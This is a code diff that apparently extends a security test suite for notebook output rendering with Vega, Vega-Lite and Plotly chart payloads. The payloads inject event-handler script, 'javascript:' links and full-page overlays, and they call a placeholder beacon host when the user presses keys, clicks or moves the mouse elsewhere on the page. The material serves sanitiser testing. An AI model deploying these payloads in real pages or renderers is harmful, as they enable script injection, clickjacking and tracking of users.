@@ -392,3 +392,174 @@ SETUP = (
     "from IPython.display import HTML, IFrame, Image, Javascript, Markdown, Video, display\n"
     "import ipywidgets as w"
 )
+
+
+# --- Charts ---------------------------------------------------------------------------------------
+
+_VEGA, _LITE = "application/vnd.vega.v5+json", "application/vnd.vegalite.v5+json"
+_PLOTLY = "application/vnd.plotly.v1+json"
+_INPUT: dict[str, object] = {"input": "text", "type": "image", "src": "x", "onerror": "HIT"}
+_OVER: dict[str, object] = {"element": "body", "input": "text", "id": "pwned-overlay"}
+_BAR: dict[str, object] = {
+    "data": {"values": [{"a": 1, "b": "x"}]},
+    "mark": "bar",
+    "encoding": {"x": {"field": "a", "type": "quantitative"}},
+}
+_RECT = {"width": {"value": 200}, "height": {"value": 200}, "fill": {"value": "red"}}
+
+
+def _bound(bind: dict[str, object]) -> dict[str, object]:
+    return {"signals": [{"name": "s", "value": "", "bind": bind}]}
+
+
+def _heard(events: object) -> dict[str, object]:
+    """Loads an address with what was heard."""
+    return {
+        "signals": [{"name": "k", "value": "0", "on": [{"events": events, "update": "k+'1'"}]}],
+        "data": [{"name": "d", "url": {"signal": "'BEACON/heard'+k"}}],
+    }
+
+
+def _marked(**encoded: object) -> dict[str, object]:
+    return {
+        "width": 200,
+        "height": 200,
+        "marks": [{"type": "rect", "encode": {"enter": {**_RECT, **encoded}}}],
+    }
+
+
+_VEGA_CHARTS: dict[str, tuple[str, dict[str, object]]] = {
+    "vega, attributes of a bound input": (_VEGA, _bound(_INPUT)),
+    "vega, attributes of a bound range": (
+        _VEGA,
+        _bound({"input": "range", "min": 0, "max": 9, "autofocus": "", "onfocus": "HIT"}),
+    ),
+    "vega, attributes of a bound list": (
+        _VEGA,
+        _bound({"input": "select", "options": ["a", "b"], "autofocus": "", "onfocus": "HIT"}),
+    ),
+    "vega, attributes of a bound box": (
+        "application/vnd.vega.v5.json",
+        _bound({**_INPUT, "input": "checkbox"}),
+    ),
+    "vega-lite, attributes of a bound parameter": (
+        _LITE,
+        {**_BAR, "params": [{"name": "p", "value": "", "bind": _INPUT}]},
+    ),
+    "vega-lite, attributes of a bound selection": (
+        "application/vnd.vegalite.v4+json",
+        {**_BAR, "selection": {"s": {"type": "single", "fields": ["a"], "bind": _INPUT}}},
+    ),
+    "vega-lite, attributes of a parameter of a layer": (
+        _LITE,
+        {"layer": [{**_BAR, "params": [{"name": "p", "value": "", "bind": _INPUT}]}]},
+    ),
+    "vega, an input laid over the page": (
+        _VEGA,
+        _bound({**_OVER, "style": "position:fixed;inset:0"}),
+    ),
+    "vega, an input in the notebook": (_VEGA, _bound({**_OVER, "element": ".jp-Notebook"})),
+    "vega, an input in the document": (_VEGA, _bound({**_OVER, "element": "html"})),
+    "vega, a list laid over the page": (
+        _VEGA,
+        _bound({**_OVER, "input": "radio", "options": ["a"]}),
+    ),
+    "vega 6, an input laid over the page": ("application/vnd.vega.v6+json", _bound(_OVER)),
+    "vega-lite, an input laid over the page": (
+        _LITE,
+        {**_BAR, "params": [{"name": "p", "value": "", "bind": _OVER}]},
+    ),
+    "vega, keys typed elsewhere in the page": (
+        _VEGA,
+        _heard({"source": "body", "type": "keydown"}),
+    ),
+    "vega, clicks elsewhere in the page": (_VEGA, _heard({"source": "body", "type": "click"})),
+    "vega, moves of the window": (_VEGA, _heard({"source": "window", "type": "mousemove"})),
+    "vega, events by a selector": (_VEGA, _heard("body:click, window:keydown")),
+    "vega, a timer": (_VEGA, _heard({"type": "timer", "throttle": 100})),
+    "vega-lite, a selection by the page's keys": (
+        _LITE,
+        {
+            **_BAR,
+            "params": [{"name": "p", "select": {"type": "point", "on": "body:keydown"}}],
+            "data": {"url": "BEACON/selected.json"},
+        },
+    ),
+    "vega, an address loaded with the page's cookies": (
+        _VEGA,
+        {"signals": [{"name": "cursor", "value": "url(BEACON/cursor), auto"}]},
+    ),
+    "vega, a cursor of a mark": (_VEGA, _marked(cursor={"value": "url(BEACON/mark), auto"})),
+    "vega, a cursor that is computed": (
+        _VEGA,
+        {"signals": [{"name": "cursor", "update": "'url(BEACON/computed), auto'"}]},
+    ),
+    "vega-lite, a cursor of a mark": (
+        _LITE,
+        {**_BAR, "mark": {"type": "bar", "cursor": "url(BEACON/lite), auto"}},
+    ),
+    "vega-lite, a cursor of all marks": (
+        _LITE,
+        {**_BAR, "config": {"mark": {"cursor": "url(BEACON/config), auto"}}},
+    ),
+    "vega-lite, a cursor of the view": (
+        _LITE,
+        {**_BAR, "view": {"cursor": "url(BEACON/view), auto"}},
+    ),
+    "vega-lite, a picture in a tooltip": (
+        _LITE,
+        {
+            **_BAR,
+            "data": {"values": [{"a": 1, "image": "BEACON/tip.png' onerror='HIT"}]},
+            "mark": {"type": "bar", "tooltip": {"content": "data"}},
+        },
+    ),
+    "vega-lite, a link": (
+        _LITE,
+        {**_BAR, "encoding": {"x": {"field": "a"}, "href": {"value": "javascript:HIT"}}},
+    ),
+    "vega-lite, a fill by an address": (
+        _LITE,
+        {**_BAR, "mark": {"type": "bar", "fill": "url(BEACON/fill.svg#x)"}},
+    ),
+    "vega-lite as text": (_LITE, "BEACON/spec.json"),  # type: ignore[dict-item]
+    "vega-lite, a schema by an address": (_LITE, {**_BAR, "$schema": "BEACON/schema/v5.json"}),
+}
+
+
+def _titled(text: str) -> dict[str, object]:
+    return {"data": [{"y": [1, 2], "hovertemplate": text}], "layout": {"title": {"text": text}}}
+
+
+_PLOTLY_CHARTS: dict[str, dict[str, object]] = {
+    "plotly, an address in a label's style": _titled(
+        '<span style="cursor:url(BEACON/cursor),auto">t</span>'
+    ),
+    "plotly, a filter in a label's style": _titled('<b style="filter:url(BEACON/f.svg#x)">t</b>'),
+    "plotly, a script in a label": _titled("<a href='javascript:HIT' target='_top'>click</a>"),
+    "plotly, a label over the page": _titled(
+        '<span style="position:fixed;inset:0" id="pwned-overlay" onload="HIT">t</span>'
+    ),
+    "plotly, a picture": {
+        "data": [{"type": "image", "source": "BEACON/image.png"}],
+        "layout": {"images": [{"source": "BEACON/layout.png", "sizex": 1, "sizey": 1}]},
+    },
+    "plotly, a map": {
+        "data": [{"type": "scattergeo", "lat": [1], "lon": [1]}],
+        "layout": {"template": {"layout": {"map": {"style": "BEACON/style.json"}}}},
+        "config": {"topojsonURL": "BEACON/topo/", "plotlyServerURL": "BEACON"},  # type: ignore[dict-item]
+    },
+}
+
+
+def chart_payloads(beacon: str) -> list[Payload]:
+    """The charts alone; every fifth is plotly's."""
+    charts: list[tuple[str, object]] = list(_VEGA_CHARTS.items())
+    for number, (name, figure) in enumerate(_PLOTLY_CHARTS.items()):
+        charts.insert(number * 6 + 5, (name, (_PLOTLY, figure)))
+    payloads = []
+    for number, (name, (mime, value)) in enumerate(charts):  # type: ignore[misc]
+        code = f"display({{{mime!r}: {value!r}, 'text/plain': 'x'}}, raw=True)"
+        code = code.replace("HIT", _in_literal(_HIT)).replace("NAME", f"c{number}")
+        payloads.append(Payload(name, code.replace("BEACON", f"{beacon}/c{number}")))
+    return payloads
